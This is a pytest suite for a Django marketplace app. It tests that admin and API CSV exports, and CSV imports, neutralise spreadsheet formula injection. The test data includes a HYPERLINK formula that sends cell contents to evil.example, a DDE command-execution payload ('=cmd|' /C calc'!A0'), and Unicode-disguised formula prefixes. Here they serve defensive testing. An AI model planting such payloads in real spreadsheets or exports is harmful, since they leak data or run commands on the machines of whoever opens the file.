"""No cell that leaves us is a formula, whatever somebody wrote into their name; walks all exports."""

import ast
import csv
import io
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from django.contrib import admin
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from import_export.admin import ExportMixin

from accounts.admin.exports import CsvExport, SafeResource
from accounts.imports.cells import plain
from accounts.models import Anchor, Membership, Merchant, Region, Stall, User, Zone
from matching.services.roots import close_day
from matchmaker.core.text import is_formula, quote_cell, unquote_cell
from tests.admin.conftest import make_agreed
from tests.admin.test_exports import FORMULAS
from tests.admin.test_pages import furnish
from tests.authorization.openapi import schema
from tests.factories import UserFactory
from tests.matching.held import held
from tests.test_architecture import MODULES

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'
MORE_FORMULAS = [
    *(f"{mark}=1" for mark in "\ufeff\u200b\u202e\x00\u3000\u2028\x1f\u00ad\u2800\u115f"),
    "\u2060+1", "﹦1", "﹢1", "﹣1", "﹫x", "⁺1", "₌1",
]  # fmt: skip
EXPORTS = {
    f"{model._meta.app_label}/{model._meta.model_name}": page
    for model, page in admin.site._registry.items()
    if isinstance(page, ExportMixin)
}
# Files of the API; one that is added has to be filled and read here too.
API_FILES = {"outcomes/template/"}
# Columns of these hold words that people write.
WITH_WORDS = {"accounts/merchant", "accounts/stall", "accounts/anchor", "matching/match", "matching/reaction",
              "matching/outcome"}  # fmt: skip


@pytest.mark.parametrize("cell", [*FORMULAS, *MORE_FORMULAS])
def test_a_cell_that_might_run_is_quoted_and_comes_back(cell: str) -> None:
    assert is_formula(cell)
    quoted = quote_cell(cell)
    assert quoted == f"'{cell}" and not is_formula(quoted)
    assert unquote_cell(quoted) == cell
    assert plain(quoted) == cell.strip()


@given(st.text())
def test_no_text_whatever_leaves_as_a_formula(text: str) -> None:
    cell = quote_cell(text)
    assert not is_formula(cell)
    if cell != text:
        assert unquote_cell(cell) == text
    assert quote_cell(cell) == cell, "what is quoted is not quoted twice"


@pytest.mark.parametrize("cell", ["'", "'a", "''=1", "O'Neill", "a=1", "1-2", "'广州"])
def test_an_import_leaves_other_quotes_alone(cell: str) -> None:
    assert plain(cell) == cell


@pytest.fixture
def hostile_town(db: None) -> User:
    """A row of everything that is exported, and a formula wherever people write words."""
    furnish(0)
    make_agreed(1)
    close_day()
    booking = held().bookings.get()
    owner = UserFactory.create()
    Membership.objects.create(user=owner, merchant=booking.match.stall.merchant, role="owner")
    for model, names in (
        (Merchant, ["name", "contact_name"]),
        (Stall, ["name", "description"]),
        (Anchor, ["display_name", "real_name", "bio"]),
        (User, ["name"]),
        (Zone, ["name_zh", "name_en"]),
        (Region, ["name_zh", "name_en"]),
    ):
        model._default_manager.update(**dict.fromkeys(names, HOSTILE))
    return owner


def cells_of(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def exported(client: Client) -> dict[str, list[str]]:
    found = {}
    for name in EXPORTS:
        answer = client.get(f"/admin/{name}/export/")
        assert answer.status_code == 200 and answer["Content-Type"] == "text/csv", name
        assert answer["Content-Disposition"].startswith("attachment"), name
        assert answer["X-Content-Type-Options"] == "nosniff", name
        found[name] = cells_of(answer.content)
    return found


def superuser(client_of: Any) -> Client:
    return client_of(UserFactory.create(is_staff=True, is_superuser=True))


def test_no_export_of_the_admin_holds_a_formula(hostile_town: User, client_of: Any) -> None:
    assert len(EXPORTS) >= 7
    found = exported(superuser(client_of))
    for name, cells in found.items():
        assert [cell for cell in cells if is_formula(cell)] == [], name
    assert {name for name, cells in found.items() if f"'{HOSTILE}" in cells} == WITH_WORDS


def test_the_walk_would_find_an_export_that_quotes_nothing(hostile_town: User, client_of: Any) -> None:
    with mock.patch("accounts.admin.exports.quote_cell", lambda cell: cell):
        found = exported(superuser(client_of))
    assert {name for name, cells in found.items() if HOSTILE in cells} == WITH_WORDS


def test_every_export_of_the_admin_is_of_the_safe_kind(rf: Any) -> None:
    request = rf.get("/")
    for name, page in EXPORTS.items():
        assert isinstance(page, CsvExport), name
        for resource in page.get_export_resource_classes(request):
            assert issubclass(resource, SafeResource), name


def test_no_file_of_the_api_holds_a_formula(hostile_town: User, api: Any) -> None:
    found = {
        path.removeprefix("/api/v1/")
        for path, operations in schema()["paths"].items()
        for operation in operations.values()
        for answer in operation["responses"].values()
        if "text/csv" in answer.get("content", {})
    }
    assert found == API_FILES
    answer = api(hostile_town).get("/api/v1/outcomes/template/")
    cells = cells_of(answer.content)
    assert f"'{HOSTILE}" in cells and [cell for cell in cells if is_formula(cell)] == []
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_whatever_writes_a_table_knows_how_to_quote() -> None:
    """A table written elsewhere, by a command or a new endpoint, has its cells pass through `quote_cell`."""
    for name, path in MODULES.items():
        source = Path(path).read_text()
        called = {node.attr for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Attribute)}
        if called & {"writer", "DictWriter", "Dataset"} and "csv" in source:
            assert "quote_cell(" in source or "map(quote_cell" in source, name


def test_a_formula_in_an_import_is_stored_as_its_words_and_leaves_quoted(
    api: Any, client_of: Any, merchant: Merchant, merchant_user: User
) -> None:
    rows = [
        "name,zone,floor,number,categories,price_min_cents,price_max_cents,commission_rate",
        "'+86 Denim,c,2,C07,dress,5900,12900,0.2",
        "=cmd|' /C calc'!A0,c,2,C08,dress,5900,12900,0.2",
        "@SUM(A1),c,2,C09,dress,5900,12900,0.2",
    ]
    answer = api(merchant_user).post(
        "/api/v1/stalls/import/", "\r\n".join(rows).encode(), content_type="text/csv"
    )
    assert answer.status_code == 200, answer.json()
    names = list(Stall.objects.order_by("number").values_list("name", flat=True))
    assert names == ["+86 Denim", "cmd|' /C calc'!A0", "SUM(A1)"]
    cells = exported(superuser(client_of))["accounts/stall"]
    assert "'+86 Denim" in cells and [cell for cell in cells if is_formula(cell)] == []
